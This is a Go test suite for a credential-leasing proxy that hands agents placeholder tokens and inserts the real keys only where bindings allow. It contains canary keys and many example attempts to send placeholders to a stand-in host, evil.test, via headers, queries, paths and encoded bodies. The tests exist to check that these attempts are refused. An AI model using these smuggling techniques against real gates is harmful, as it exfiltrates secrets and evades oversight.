package credential

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/carrel-dev/carrel"
	"github.com/carrel-dev/carrel/internal/gate"
	"github.com/carrel-dev/carrel/internal/gate/gatetest"
)

// secretOf are canaries in the shapes of real keys.
var secretOf = map[string]string{
	"github":    "ghp_R4nd0mCanaryAbCdEfGhIjKlMnOpQrStUv",
	"long":      "ghs_123456_" + strings.Repeat("eyJhbGciOiJSUzI1NiJ9aB3", 22)[:500] + "CANARYxyz",
	"anthropic": "sk-ant-api03-canaryCANARY0123456789_abcdefghij-KLMNOPQRST",
	"npm":       "npm_canaryCANARY0123456789abcdefghij",
	"jwt":       "eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"canary","email":"someone@example.com","roles":["a","b","c"],"exp":4102444800,"more":"and more and more and more"}`)) + ".canarysignature0123456789abcdefghijklmnopqr",
	"odd":       "p+q/canary==a&b<c>'d\"0123456789abcdef",
}

// desk is a gate under credential rules, its log, and leases of every
// definition.
type desk struct {
	*Leases
	t    *testing.T
	log  *gatetest.Log
	held map[string]string // placeholder by name
}

func lend(t *testing.T, defs ...Definition) *desk {
	t.Helper()
	for i, d := range defs {
		if d.Source == nil {
			secret := secretOf[d.Name]
			defs[i].Source = FromEnv(d.Name, func(string) (string, bool) { return secret, true })
		}
	}
	rules, err := NewRules(defs, compileTest)
	if err != nil {
		t.Fatal(err)
	}
	log := &gatetest.Log{}
	g := gate.New(gatetest.Decide(rules.Decide), gatetest.Nobody{}, log)
	d := &desk{Leases: New(g, Config{Run: carrel.NewRunID(), Agent: "test", Rules: rules}), t: t, log: log, held: map[string]string{}}
	for _, def := range rules.Definitions() {
		if d.held[def.Name], err = d.Lend(context.Background(), def.Name); err != nil {
			t.Fatal(err)
		}
	}
	return d
}

// compileTest stands for the network rules' own reading of patterns.
func compileTest(patterns []string) (func(string) bool, error) {
	return func(p string) bool {
		return slices.ContainsFunc(patterns, func(pattern string) bool {
			below, all := strings.CutSuffix(pattern, "**")
			ok, err := path.Match(pattern, p)
			return all && strings.HasPrefix(p, below) || ok && err == nil
		})
	}, nil
}

// github is bound as a user would bind it.
func github() Definition {
	return Definition{Name: "github", Bindings: []Binding{
		{Host: "api.github.test", Methods: []string{"GET", "POST"}, Paths: []string{"/repos/acme/app/**", "/user"}},
		{Host: "github.test", Basic: "x-access-token"},
	}}
}

func request(method, address string, header ...string) *http.Request {
	r := httptest.NewRequest(method, address, nil)
	r.TLS = nil
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Add(header[i], header[i+1])
	}
	return r
}

// refusedBy checks that err is a refusal by a rule, and that the log has it.
func (d *desk) refusedBy(err error, rule string) {
	d.t.Helper()
	var refusal *gate.Refusal
	if !errors.As(err, &refusal) || refusal.Decision.Rules[0] != "credential/"+rule {
		d.t.Fatalf("error is %v, want a refusal by credential/%s", err, rule)
	}
	for _, r := range d.log.Records() {
		if r.Kind == carrel.KindRefused && r.Decision.Rules[0] == "credential/"+rule {
			return
		}
	}
	d.t.Fatalf("no record of a refusal by credential/%s", rule)
}

func TestPlaceholderHasTheShapeOfTheKey(t *testing.T) {
	for name, secret := range secretOf {
		p, again := newPlaceholder(secret, time.Now()), newPlaceholder(secret, time.Now())
		if len(p) != len(secret) || p == secret || p == again {
			t.Errorf("%s: %q, then %q, for a key of %d characters", name, p, again, len(secret))
		}
		if strings.Contains(strings.ToLower(p), "canary") {
			t.Errorf("%s: the placeholder shows a part of the key", name)
		}
	}
	for _, prefix := range []string{"ghp_", "github_pat_", "sk-ant-api03-", "npm_", "glpat-", "xoxb-", "AKIA"} {
		if p := newPlaceholder(prefix+"0123456789ABCDEFGHIJ", time.Now()); !strings.HasPrefix(p, prefix) {
			t.Errorf("%s became %s", prefix, p)
		}
	}
	if p := newPlaceholder("hunter2222", time.Now()); !strings.HasPrefix(p, "carrel_") || len(p) < 20 {
		t.Errorf("a short password became %s", p)
	}
	parts := strings.Split(newPlaceholder(secretOf["jwt"], time.Unix(1900000000, 0)), ".")
	claims, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil || len(parts) != 3 || !strings.Contains(string(claims), `"exp":1900000000`) || strings.Contains(string(claims), "someone") {
		t.Errorf("claims %s, %v", claims, err)
	}
}

func TestLeaseIsRecordedBeforeTheSourceIsAsked(t *testing.T) {
	asked := false
	log := &gatetest.Log{}
	def := github()
	def.Source = FromEnv("K", func(string) (string, bool) {
		asked = true
		if n := len(log.Records()); n != 1 {
			t.Errorf("%d records before the source was asked", n)
		}
		return secretOf["github"], true
	})
	rules, _ := NewRules([]Definition{def}, compileTest)
	ls := New(gate.New(gatetest.Decide(rules.Decide), gatetest.Nobody{}, log), Config{Rules: rules})
	if _, err := ls.Lend(context.Background(), "github"); err != nil || !asked {
		t.Fatalf("%v, asked %v", err, asked)
	}
	a := log.Records()[0].Action
	for _, want := range []string{"lease until 2", "api.github.test:443 in the header Authorization, GET POST", "github.test:443 in the password of the user x-access-token"} {
		if a.Operation != carrel.OpCredential || a.Subject != "github" || !strings.Contains(string(a.Reason), want) {
			t.Errorf("lease is %+v, want %q", a, want)
		}
	}
	asked = false
	denied, _ := gatetest.DenyAll()
	if _, err := New(denied, Config{Rules: rules}).Lend(context.Background(), "github"); err == nil || asked {
		t.Errorf("a denied lease: error %v, source asked %v", err, asked)
	}
	if _, err := ls.Lend(context.Background(), "other"); err == nil {
		t.Error("an unknown credential was lent")
	}
}

func TestUseKeepsTheContractOfEffects(t *testing.T) {
	d := lend(t, github())
	put := ""
	u := use{d.all()[0], func(s string) { put = s }}
	gatetest.Contract(t, gatetest.Effect{Name: "place", Action: useIt,
		Call:     func(ctx context.Context, g gate.Grant) error { return u.place(ctx, g, useIt) },
		Happened: func() bool { return put != "" },
	})
}

func TestPlaceholderIsReplacedWhereItBelongs(t *testing.T) {
	d := lend(t, github(),
		Definition{Name: "anthropic", Bindings: []Binding{{Host: "api.anthropic.test", Header: "x-api-key"}}},
		Definition{Name: "odd", Bindings: []Binding{{Host: "maps.test", Port: 8443, Query: "key"}}},
		Definition{Name: "long", Bindings: []Binding{{Host: "api.github.test", Paths: []string{"/app/*"}}}})
	p := d.held
	basic := func(user, password string) string {
		return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+password))
	}
	for _, c := range []struct {
		host   string
		port   int
		req    *http.Request
		header string
		want   string
	}{
		{"api.github.test", 443, request("GET", "https://api.github.test/repos/acme/app/issues", "Authorization", "Bearer "+p["github"]), "Authorization", "Bearer " + secretOf["github"]},
		{"api.github.test", 443, request("GET", "https://api.github.test/user", "Authorization", "token "+p["github"]), "Authorization", "token " + secretOf["github"]},
		{"api.github.test", 443, request("GET", "https://api.github.test/user", "Authorization", p["github"]), "Authorization", secretOf["github"]},
		{"api.github.test", 443, request("DELETE", "https://api.github.test/app/x", "Authorization", "Bearer "+p["long"]), "Authorization", "Bearer " + secretOf["long"]},
		{"github.test", 443, request("GET", "https://github.test/acme/app/info/refs?service=git-upload-pack", "Authorization", basic("x-access-token", p["github"])), "Authorization", basic("x-access-token", secretOf["github"])},
		{"api.anthropic.test", 443, request("POST", "https://api.anthropic.test/v1/messages", "X-Api-Key", p["anthropic"]), "X-Api-Key", secretOf["anthropic"]},
		{"maps.test", 8443, request("GET", "https://maps.test:8443/at?q=a%20b&key="+p["odd"]+"&z=1"), "", ""},
	} {
		before := len(d.log.Records())
		if c.want == "" {
			c.req.URL.RawQuery = "q=a%20b&key=" + url.QueryEscape(p["odd"]) + "&z=1"
		}
		if err := d.Outgoing(context.Background(), c.host, c.port, c.req); err != nil {
			t.Errorf("%s: %v", c.req.URL, err)
			continue
		}
		if c.want != "" && c.req.Header.Get(c.header) != c.want {
			t.Errorf("%s: sent %q", c.req.URL, c.req.Header.Get(c.header))
		}
		if c.want == "" && c.req.URL.RawQuery != "q=a%20b&key="+url.QueryEscape(secretOf["odd"])+"&z=1" {
			t.Errorf("sent %q", c.req.URL.RawQuery)
		}
		if got := d.log.Records(); len(got) != before+2 || got[before].Kind != carrel.KindIntent || got[before].Action.Host != c.host || got[before].Action.Method != c.req.Method {
			t.Errorf("%s: the use is not in the log: %+v", c.req.URL, got[before:])
		}
	}
}

// What is decided, recorded and shown to people of a request has placeholders
// in it also when one of its keys is in place already.
func TestAttackKeyInTheRecordOfTheNextUse(t *testing.T) {
	d := lend(t, Definition{Name: "npm", Bindings: []Binding{{Host: "maps.test", Query: "key"}}},
		Definition{Name: "anthropic", Bindings: []Binding{{Host: "maps.test", Query: "app"}}},
		Definition{Name: "github", Bindings: []Binding{{Host: "api.github.test"}}})
	r := request("POST", "https://maps.test/at?key="+d.held["npm"]+"&app="+d.held["anthropic"])
	r.Body = io.NopCloser(strings.NewReader(d.held["github"]))
	if err := d.Outgoing(t.Context(), "maps.test", 443, r); err != nil || !strings.Contains(r.URL.RawQuery, secretOf["npm"]) || !strings.Contains(r.URL.RawQuery, secretOf["anthropic"]) {
		t.Fatalf("%s, %v", r.URL, err)
	}
	_, err := io.ReadAll(r.Body)
	d.refusedBy(err, "misplaced")
	for _, rec := range d.log.Records() {
		if rec.Action != nil && (leaked(string(rec.Action.URL), secretOf["npm"]) || leaked(string(rec.Action.URL), secretOf["anthropic"])) {
			t.Errorf("a record of %s has the key: %s", rec.Action.Subject, rec.Action.URL)
		}
	}
}

// An answer that repeats the key is not to be had in parts: each would show a
// piece that is no key. Where no key goes, parts are.
func TestAttackKeyInPartsOfAnAnswer(t *testing.T) {
	d := lend(t, github())
	for _, c := range []struct{ key, want string }{{"Bearer " + d.held["github"], ""}, {"", "bytes=0-9,10-19"}} {
		r := request("GET", "https://api.github.test/user", "Range", "bytes=0-9,10-19", "If-Range", `"x"`)
		if c.key != "" {
			r.Header.Set("Authorization", c.key)
		}
		if err := d.Outgoing(t.Context(), "api.github.test", 443, r); err != nil || r.Header.Get("Range") != c.want {
			t.Errorf("with %q: Range %q, %v", c.key, r.Header.Get("Range"), err)
		}
	}
}

// attacks.md G and F 130: a placeholder anywhere but in its place ends the
// request and leaves an alarm; beside each stands the use that is allowed.
func TestPlaceholderAnywhereElseStopsTheRequest(t *testing.T) {
	d := lend(t, github(), Definition{Name: "anthropic", Bindings: []Binding{{Host: "api.anthropic.test", Header: "X-Api-Key"}}})
	p := d.held["github"]
	b64 := base64.StdEncoding.EncodeToString
	const there = "https://api.github.test/user"
	good := func() *http.Request { return request("GET", there, "Authorization", "Bearer "+p) }
	bad := map[string]func() (string, *http.Request){
		"other host": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/", "Authorization", "Bearer "+p)
		},
		"other bound host": func() (string, *http.Request) {
			return "api.anthropic.test", request("GET", "https://api.anthropic.test/", "X-Api-Key", p)
		},
		"host header of another": func() (string, *http.Request) { r := good(); r.Host = "evil.test"; return "api.github.test", r },
		"plain http": func() (string, *http.Request) {
			return "api.github.test", request("GET", "http://api.github.test/user", "Authorization", "Bearer "+p)
		},
		"other header": func() (string, *http.Request) { r := good(); r.Header.Set("X-Note", p); return "api.github.test", r },
		"header, not alone": func() (string, *http.Request) {
			return "api.github.test", request("GET", there, "Authorization", "Bearer "+p+"x")
		},
		"cookie": func() (string, *http.Request) { return "api.github.test", request("GET", there, "Cookie", "s="+p) },
		"query":  func() (string, *http.Request) { return "api.github.test", request("GET", there+"?t="+p) },
		"name of a header, as Go spells it": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/", "X-"+p, "1")
		},
		"query name":  func() (string, *http.Request) { return "api.github.test", request("GET", there+"?"+p+"=1") },
		"other query": func() (string, *http.Request) { return "evil.test", request("GET", "https://evil.test/?key="+p) },
		"path":        func() (string, *http.Request) { return "evil.test", request("GET", "https://evil.test/a/"+p) },
		"escaped path": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/"+strings.Replace(p, "g", "%67", 1))
		},
		"twice escaped query": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/?q="+strings.Replace(p, "g", "%2567", 1))
		},
		"user of the address": func() (string, *http.Request) {
			r := request("GET", "https://evil.test/")
			r.URL.User = url.UserPassword("u", p)
			return "evil.test", r
		},
		"basic, elsewhere": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/", "Authorization", "Basic "+b64([]byte("u:"+p)))
		},
		"basic, where a header is bound": func() (string, *http.Request) {
			return "api.github.test", request("GET", there, "Authorization", "Basic "+b64([]byte("u:"+p)))
		},
		"basic, of another user": func() (string, *http.Request) {
			return "github.test", request("GET", "https://github.test/a", "Authorization", "Basic "+b64([]byte("me:"+p)))
		},
		"basic, as the user": func() (string, *http.Request) {
			return "github.test", request("GET", "https://github.test/a", "Authorization", "Basic "+b64([]byte(p+":x-access-token")))
		},
		"base64 in a header": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/", "X-Data", b64([]byte("xx"+p+"yy")))
		},
		"hex in the query": func() (string, *http.Request) {
			return "evil.test", request("GET", "https://evil.test/?d="+hex.EncodeToString([]byte(p)))
		},
		"name of a header": func() (string, *http.Request) {
			r := request("GET", "https://evil.test/")
			r.Header[p] = []string{"1"}
			return "evil.test", r
		},
	}
	for name, make := range bad {
		host, r := make()
		err := d.Outgoing(context.Background(), host, 443, r)
		d.refusedBy(err, "misplaced")
		for _, v := range r.Header {
			if strings.Contains(strings.Join(v, " "), secretOf["github"]) {
				t.Errorf("%s: the key was put in all the same", name)
			}
		}
		if err := d.Outgoing(context.Background(), "api.github.test", 443, good()); err != nil {
			t.Errorf("%s: the right use: %v", name, err)
		}
	}
	d.refusedBy(d.Outgoing(context.Background(), "api.github.test", 8443, request("GET", "https://api.github.test:8443/user", "Authorization", "Bearer "+p)), "misplaced")
}

// attacks.md G 142: methods and paths bound what a token may do.
func TestTokenIsHeldToItsMethodsAndPaths(t *testing.T) {
	d := lend(t, github())
	for _, c := range []struct{ method, path, rule string }{
		{"DELETE", "/repos/acme/app/issues", "method"},
		{"PATCH", "/user", "method"},
		{"GET", "/repos/acme/other/issues", "path"},
		{"POST", "/repos/acme/app", "path"},
		{"GET", "/user/keys", "path"},
		{"GET", "/USER", "path"},
	} {
		r := request(c.method, "https://api.github.test"+c.path, "Authorization", "Bearer "+d.held["github"])
		d.refusedBy(d.Outgoing(context.Background(), "api.github.test", 443, r), c.rule)
	}
	r := request("POST", "https://api.github.test/repos/acme/app/issues", "Authorization", "Bearer "+d.held["github"])
	if err := d.Outgoing(context.Background(), "api.github.test", 443, r); err != nil {
		t.Error(err)
	}
}

// attacks.md G 140 and 145: keys that are not ours do not go to a bound host.
func TestForeignKeysAreRefusedAtABoundHost(t *testing.T) {
	d := lend(t, github(), Definition{Name: "npm", Bindings: []Binding{{Host: "registry.test", Own: true}}})
	for _, r := range []*http.Request{
		request("GET", "https://api.github.test/user", "Authorization", "Bearer ghp_SomebodyElse0000000000000000000000"),
		request("GET", "https://api.github.test/user", "Authorization", "Bearer "+d.held["github"], "Authorization", "Bearer other"),
		request("GET", "https://api.github.test/user", "Cookie", "user_session=1"),
		request("GET", "https://api.github.test/user", "Private-Token", "x"),
		request("GET", "https://api.github.test/user?access_token=x"), request("GET", "https://api.github.test/user?token=x"), request("GET", "https://api.github.test/user?SIG=x"),
		request("GET", "https://api.github.test/user?X-Goog-Signature=x"), request("GET", "https://api.github.test/user?X-Amz-Security-Token=x"), request("GET", "https://api.github.test/user?a=b&Signature=x"),
		request("GET", "https://api.github.test/user?%61ccess_token=x"),
		request("GET", "https://u:p@api.github.test/user"),
		request("GET", "https://api.github.test/user", "Authorization", "AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE/20260101/x/s3/aws4_request, Signature=0"),
	} {
		err := d.Outgoing(context.Background(), "api.github.test", 443, r)
		if len(r.Header["Authorization"]) == 2 {
			d.refusedBy(err, "form")
			continue
		}
		d.refusedBy(err, "foreign")
	}
	if r := request("GET", "https://api.github.test/user"); d.Outgoing(context.Background(), "api.github.test", 443, r) != nil || r.Header.Get("Authorization") != "" {
		t.Error("a request without any key must pass as it is")
	}
	if err := d.Outgoing(context.Background(), "registry.test", 443, request("GET", "https://registry.test/", "Authorization", "Bearer mine")); err != nil {
		t.Errorf("where the entry says own: %v", err)
	}
	if err := d.Outgoing(context.Background(), "elsewhere.test", 443, request("GET", "https://elsewhere.test/", "Authorization", "Bearer mine")); err != nil {
		t.Errorf("at a host without a credential: %v", err)
	}
}

func TestExpiredLeaseIsNotUsed(t *testing.T) {
	d := lend(t, github())
	r := func() *http.Request {
		return request("GET", "https://api.github.test/user", "Authorization", "Bearer "+d.held["github"])
	}
	if err := d.Outgoing(context.Background(), "api.github.test", 443, r()); err != nil {
		t.Fatal(err)
	}
	d.all()[0].expires = time.Now().Add(-time.Second)
	d.refusedBy(d.Outgoing(context.Background(), "api.github.test", 443, r()), "expired")
}

func TestPlaceholderInABodyEndsIt(t *testing.T) {
	d := lend(t, github())
	p := d.held["github"]
	for name, body := range map[string]string{
		"plain": "token=" + p + "&x=1", "base64": base64.StdEncoding.EncodeToString([]byte("ab" + p + "c")), "hex": hex.EncodeToString([]byte(p)),
		"json": everyByte(p, `\u%04x`),
	} {
		for _, size := range []int{1, 7, 1 << 20} {
			r := request("POST", "https://evil.test/")
			r.Body = io.NopCloser(&inPieces{[]byte(strings.Repeat("x", 70000) + body + "tail"), size})
			if err := d.Outgoing(context.Background(), "evil.test", 443, r); err != nil {
				t.Fatal(err)
			}
			sent, err := io.ReadAll(r.Body)
			d.refusedBy(err, "misplaced")
			if bytes.Contains(sent, []byte(p)) || bytes.Contains(sent, []byte("tail")) {
				t.Errorf("%s in pieces of %d: the placeholder left", name, size)
			}
		}
	}
	r := request("POST", "https://evil.test/")
	plain := strings.Repeat("plain ghp_ text\n", 10000)
	r.Body = io.NopCloser(&inPieces{[]byte(plain), 3})
	if err := d.Outgoing(context.Background(), "evil.test", 443, r); err != nil {
		t.Fatal(err)
	}
	if sent, err := io.ReadAll(r.Body); err != nil || string(sent) != plain {
		t.Errorf("a plain body: %d of %d bytes, %v", len(sent), len(plain), err)
	}
	r = request("POST", "https://evil.test/")
	r.Body, r.Trailer = io.NopCloser(strings.NewReader("x")), http.Header{"X-Sum": nil}
	if err := d.Outgoing(context.Background(), "evil.test", 443, r); err != nil {
		t.Fatal(err)
	}
	r.Trailer.Set("X-Sum", p)
	_, err := io.ReadAll(r.Body)
	d.refusedBy(err, "misplaced")
}

// inPieces hands out a text a few bytes at a time.
type inPieces struct {
	text []byte
	size int
}

func (r *inPieces) Read(p []byte) (int, error) {
	if len(r.text) == 0 {
		return 0, io.EOF
	}
	n := copy(p, r.text[:min(len(r.text), r.size)])
	r.text = r.text[n:]
	return n, nil
}
